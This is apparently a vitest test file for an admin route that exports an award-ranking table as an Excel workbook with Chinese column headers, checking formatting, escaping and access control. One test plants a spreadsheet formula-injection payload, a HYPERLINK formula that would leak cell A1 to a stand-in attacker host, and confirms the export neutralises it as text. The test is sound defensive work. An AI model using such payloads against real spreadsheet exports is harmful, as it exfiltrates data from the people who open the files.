import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import * as xlsx from '~/routes/admin.ranking[.]xlsx'
import { decideLevel, inDocumentReview, submitSheet, world } from '../integration/helpers'
import { args, get, respond } from './http'

async function workbookOf(response: Response) {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(Buffer.from(await response.arrayBuffer()) as unknown as ArrayBuffer)
  return workbook.worksheets[0]!
}

describe('ranking as an Excel workbook', () => {
  it('has the CSV\\u2019s columns in the reader\\u2019s language, the header frozen, numbers as numbers, and no live formula', async () => {
    const w = await world()
    const first = await inDocumentReview(w, w.applicant)
    const second = await inDocumentReview(w, w.otherApplicant)
    for (const reviewer of w.reviewers.slice(0, 3)) {
      await submitSheet(w, first.id, reviewer, 55)
      await submitSheet(w, second.id, reviewer, 75)
    }
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
    await w.db
      .updateTable('organisations')
      .set({ name: hostile })
      .where('id', '=', w.applicant.organisationId!)
      .execute()
    await decideLevel(w, second.id, 'gold', '')

    const response = await respond(async () => xlsx.loader(args(await get('/admin/ranking.xlsx', w.admin.userId))))
    expect(response.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    )
    const sheet = await workbookOf(response)
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual([
      '奖项领域',
      '名次',
      '申报单位',
      '综合得分（算术平均）',
      '4.7',
      '4.1',
      '评分情况',
      '状态',
      '审定',
      '共识',
      '审定理由',
    ])
    expect(sheet.getRow(1).font?.bold).toBe(true)
    const second$ = sheet.getRow(2)
    expect([
      second$.getCell(1).value,
      second$.getCell(2).value,
      second$.getCell(3).value,
      second$.getCell(4).value,
      second$.getCell(9).value,
    ]).toEqual(['经济', 1, '乙公司', 750, '金奖'])
    expect(second$.getCell(4).numFmt).toBe('0.00')
    // A name that a spreadsheet would run is text, not a formula.
    const hostileCell = sheet.getRow(3).getCell(3)
    expect(hostileCell.type).toBe(ExcelJS.ValueType.String)
    expect(hostileCell.value).toBe(`'${hostile}`)
    expect(sheet.getColumn(3).width).toBeGreaterThan(10)
  })

  it('is the secretariat\\u2019s alone', async () => {
    const w = await world()
    const response = await respond(async () =>
      xlsx.loader(args(await get('/admin/ranking.xlsx', w.reviewers[0]!.userId))),
    )
    expect(response.status).toBe(403)
  })
})
